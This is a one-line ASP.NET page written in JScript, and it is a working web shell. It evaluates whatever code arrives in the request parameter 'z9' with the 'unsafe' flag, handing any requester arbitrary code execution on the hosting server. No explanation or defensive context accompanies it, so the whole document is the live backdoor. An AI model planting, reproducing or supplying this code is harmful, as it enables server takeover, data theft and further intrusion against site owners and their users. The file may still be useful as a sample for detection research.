<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>
